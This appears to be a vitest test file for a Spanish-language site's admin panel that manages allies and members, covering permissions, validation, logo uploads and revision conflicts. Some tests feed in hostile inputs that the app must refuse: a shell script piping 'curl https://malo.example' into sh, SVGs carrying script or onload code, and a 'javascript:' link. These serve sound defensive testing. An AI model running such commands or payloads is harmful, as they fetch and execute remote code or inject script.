import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import {
  logoUrlOf,
  type Ally,
  type AllyBrand,
  type AlliesPageProps,
  type ContentSet,
  type ContentSetConflict,
  type EditableAlly,
  type LeadPageProps,
  type MediaImage,
  type Member,
} from '@gota/shared/contracts';
import { allyMessages } from '@gota/shared/schemas';
import { leadEvents, leads } from '../../db/schema';
import { logoMessages } from '../media';
import { Browser } from '../../testing/browser';
import { contentLogOf, eventually, inertia, pageProps, panelFleet, sendJson } from '../../testing/content-fleet';
import { testDatabaseKind } from '../../testing/test-database';
import { uploadMedia } from '../../testing/uploads';

// the editor reads the inbox too: «Convertir en aliado» is on a lead's page
const site = panelFleet('aliados', { editorReadsInbox: true });

const alliesPage = (query = '') => pageProps<AlliesPageProps>(site.first.app, `/panel/aliados${query}`, site.editor);
const save = (
  body: { items: EditableAlly[]; version: number; desde?: { lead: string; aliado: string } },
  browser = site.editor,
) => sendJson(browser, 'PUT', '/api/aliados', body);

/** Sends a logo as the panel's file picker does. */
const uploadLogo = (browser: Browser, bytes: Buffer, name: string) =>
  uploadMedia(browser, bytes, name, { uso: 'logo', decorative: 'true' });

const logoSvg =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 286" width="400" height="286"><rect width="400" height="286" fill="#0a5"/><circle cx="200" cy="143" r="90" fill="#fff"/></svg>';

describe(`allies and members on ${testDatabaseKind}`, () => {
  it('imports allies.json and members.json once, even when two instances start together, allies first', async () => {
    expect(await contentLogOf(site.database, 'aliados')).toEqual([
      { action: 'importada', actor: 'sistema', detail: 'api/content/allies.json y members.json' },
    ]);
    const { set } = await alliesPage();
    expect(set.version).toBe(1);
    const visitors = await pageProps<{ allies: Ally[] }>(site.first.app, '/aliados');
    const members = await pageProps<{ members: Member[] }>(site.first.app, '/datos-agua');
    expect(set.items.filter((item) => item.seccion === 'aliados').map((item) => item.empresa)).toEqual(
      visitors.allies.map((ally) => ally.empresa),
    );
    expect(set.items.filter((item) => item.seccion === 'miembros').map((item) => item.img)).toEqual(
      members.members.map((member) => member.logo),
    );
    expect(new Set(set.items.map((item) => item.id)).size).toBe(set.items.length);
    await site.first.content.importOnce();
    expect((await alliesPage()).set.version).toBe(1);
  });

  it('asks an anonymous visitor to sign in and refuses a team member without the editor role', async () => {
    const { set } = await alliesPage();
    const anonymous = new Browser(site.first.app);
    await anonymous.ticket();
    expect((await save({ items: set.items, version: set.version }, anonymous)).status).toBe(401);
    expect((await site.inbox.get('/panel/aliados', inertia)).status).toBe(403);
    const refused = await save({ items: set.items, version: set.version }, site.inbox);
    expect(refused.status).toBe(403);
    expect(await refused.json()).toEqual({ message: 'Tu cuenta no puede editar el contenido del sitio.' });
    expect((await alliesPage()).set.version).toBe(set.version);
  });

  it('refuses an empty name, a bad address, a missing description and a repeated name, in Spanish, under the row, and changes nothing', async () => {
    const { set } = await alliesPage();
    const row = (change: Partial<Record<keyof EditableAlly, unknown>>) => [{ ...set.items[0], ...change }, ...set.items.slice(1)];
    const cases: [unknown[], string, string][] = [
      [row({ empresa: '   ' }), 'items.0.empresa', allyMessages.name],
      [row({ link: 'javascript:alert(1)' }), 'items.0.link', allyMessages.link],
      [row({ link: 'http://sin-cifrar.example' }), 'items.0.link', allyMessages.link],
      [row({ text: '' }), 'items.0.text', allyMessages.text],
      [row({ img: 'https://otro-sitio.example/logo.png' }), 'items.0.img', allyMessages.logo],
      [row({ empresa: set.items[1]!.empresa }), 'items.1.empresa', allyMessages.repeated('aliados')],
    ];
    for (const [items, field, message] of cases) {
      const res = await save({ items: items as EditableAlly[], version: set.version });
      expect(res.status, field).toBe(422);
      expect(await res.json(), field).toMatchObject({ errors: { [field]: [message] } });
    }
    const noneVisible = await save({ items: set.items.map((item) => ({ ...item, visible: false })), version: set.version });
    expect(noneVisible.status).toBe(422);
    expect((await alliesPage()).set.version).toBe(set.version);
  });

  it('refuses a logo that is a script, an SVG with code or outside references, and a huge file; takes a clean SVG as pixels', async () => {
    const refusals: [Buffer, number, string][] = [
      [Buffer.from('#!/bin/sh\ncurl https://malo.example | sh\n'), 415, logoMessages.notAnImage],
      [
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'),
        422,
        logoMessages.svgCode,
      ],
      [
        Buffer.from(
          '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><rect width="10" height="10"/></svg>',
        ),
        422,
        logoMessages.svgCode,
      ],
      [
        Buffer.from(
          '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><image href="https://rastreo.example/pixel.png" width="10" height="10"/></svg>',
        ),
        422,
        logoMessages.svgExternal,
      ],
    ];
    for (const [bytes, status, message] of refusals) {
      const res = await uploadLogo(site.editor, bytes, 'logo.svg');
      expect(res.status, message).toBe(status);
      expect(await res.json()).toMatchObject({ errors: { file: [message] } });
    }
    const huge = await uploadLogo(site.editor, Buffer.alloc(21 * 1024 * 1024, 0x20), 'enorme.svg');
    expect(huge.status).toBe(413);
    const res = await uploadLogo(site.editor, Buffer.from(logoSvg), 'logo.svg');
    expect(res.status).toBe(201);
    const image = (await res.json()) as MediaImage;
    expect(new Set(image.variants.map((variant) => variant.role))).toEqual(new Set(['full']));
    const file = await new Browser(site.first.app).get(logoUrlOf(image)!);
    expect(file.headers.get('Content-Type')).toBe('image/webp');
  });

  it('turns a lead into an ally with an uploaded logo: every instance shows it on /aliados and the home strip, the lead records it', async () => {
    const [lead] = await site.database
      .use()
      .insert(leads)
      .values({
        kind: 'empresa',
        empresa: 'Riego Justo S.C.',
        name: 'Marta Gil',
        email: 'marta@riegojusto.example',
        mensaje: 'Queremos sumarnos.',
      })
      .returning({ id: leads.id });
    const page = await alliesPage(`?desde=${lead!.id}`);
    expect(page.fromLead).toMatchObject({
      leadId: lead!.id,
      empresa: 'Riego Justo S.C.',
      contacto: 'Marta Gil <marta@riegojusto.example>',
    });
    const logo = (await (await uploadLogo(site.editor, Buffer.from(logoSvg), 'riego.svg')).json()) as MediaImage;
    const ally: EditableAlly = {
      id: 'aliado-riego-justo',
      seccion: 'aliados',
      empresa: 'Riego Justo S.C.',
      img: logoUrlOf(logo)!,
      text: 'Riego por goteo para pequeños productores.',
      link: 'https://riegojusto.example',
      textBtn: '',
      visible: true,
    };
    const res = await save({
      items: [ally, ...page.set.items],
      version: page.set.version,
      desde: { lead: lead!.id, aliado: ally.id },
    });
    expect(res.status).toBe(200);
    expect(((await res.json()) as { set: ContentSet<'aliados'>; message: string }).message).toBe(
      'Aliados y miembros publicados: ya los ven los visitantes.',
    );
    for (const { app } of [site.first, site.second]) {
      await eventually(
        async () => (await pageProps<{ allies: Ally[] }>(app, '/aliados')).allies[0]?.empresa === 'Riego Justo S.C.',
      );
      const home = await pageProps<{ allies: AllyBrand[] }>(app, '/');
      expect(home.allies[0]).toEqual({ empresa: 'Riego Justo S.C.', img: ally.img });
    }
    expect((await pageProps<{ allies: Ally[] }>(site.second.app, '/aliados')).allies[0]).toMatchObject({
      textBtn: 'Conoce más',
      link: 'https://riegojusto.example',
    });
    const leadPage = await pageProps<LeadPageProps>(site.first.app, `/panel/mensajes/${lead!.id}`, site.editor);
    expect(leadPage.ally).toEqual({ id: 'aliado-riego-justo', empresa: 'Riego Justo S.C.' });
    expect(leadPage.canMakeAlly).toBe(true);
    expect((await pageProps<LeadPageProps>(site.first.app, `/panel/mensajes/${lead!.id}`, site.inbox)).canMakeAlly).toBe(false);
    expect(leadPage.history.map((event) => event.action)).toEqual(['convertido']);
    const after = await alliesPage();
    expect(after.log[0]).toMatchObject({ action: 'guardada', by: site.emails.editor });
  });

  it('saves nothing when the lead was deleted meanwhile', async () => {
    const [lead] = await site.database
      .use()
      .insert(leads)
      .values({ kind: 'empresa', empresa: 'Gone S.A.', name: 'Ana', email: 'ana@gone.example', mensaje: 'Hola' })
      .returning({ id: leads.id });
    const { set } = await alliesPage();
    await site.database.use().delete(leads).where(eq(leads.id, lead!.id));
    const ally: EditableAlly = { ...set.items[0]!, id: 'aliado-gone', empresa: 'Gone S.A.' };
    const res = await save({ items: [...set.items, ally], version: set.version, desde: { lead: lead!.id, aliado: ally.id } });
    expect(res.status).toBe(404);
    expect(((await res.json()) as { message: string }).message).toContain('Ese mensaje de la bandeja ya no existe');
    expect((await alliesPage()).set.version).toBe(set.version);
    expect(await site.database.use().select().from(leadEvents).where(eq(leadEvents.leadId, lead!.id))).toEqual([]);
  });

  it('moves an ally to the members, hides another, reorders: visitors follow; a stale save is a 409; «Restaurar» undoes', async () => {
    const { set } = await alliesPage();
    const [moved, hidden, ...rest] = set.items;
    const items = [...rest, { ...hidden!, visible: false }, { ...moved!, seccion: 'miembros' as const }];
    const res = await save({ items, version: set.version });
    expect(res.status).toBe(200);
    await eventually(
      async () =>
        (await pageProps<{ members: Member[] }>(site.second.app, '/datos-agua')).members.at(-1)?.name === moved!.empresa,
    );
    const allies = (await pageProps<{ allies: Ally[] }>(site.second.app, '/aliados')).allies.map((ally) => ally.empresa);
    expect(allies).not.toContain(moved!.empresa);
    expect(allies).not.toContain(hidden!.empresa);

    const stale = await save({ items: set.items, version: set.version });
    expect(stale.status).toBe(409);
    const conflict = (await stale.json()) as ContentSetConflict<'aliados'>;
    expect(conflict.message).toContain('Otra persona guardó los aliados y miembros');
    expect(conflict.current.version).toBe(set.version + 1);

    const restored = await sendJson(site.editor, 'POST', '/api/aliados/revisiones/1/restaurar', { version: set.version + 1 });
    expect(restored.status).toBe(200);
    await eventually(
      async () =>
        !(await pageProps<{ allies: Ally[] }>(site.second.app, '/aliados')).allies.some(
          (ally) => ally.empresa === 'Riego Justo S.C.',
        ),
    );
    expect((await alliesPage()).log[0]).toMatchObject({ action: 'restaurada', detail: 'revisión 1' });
  });
});
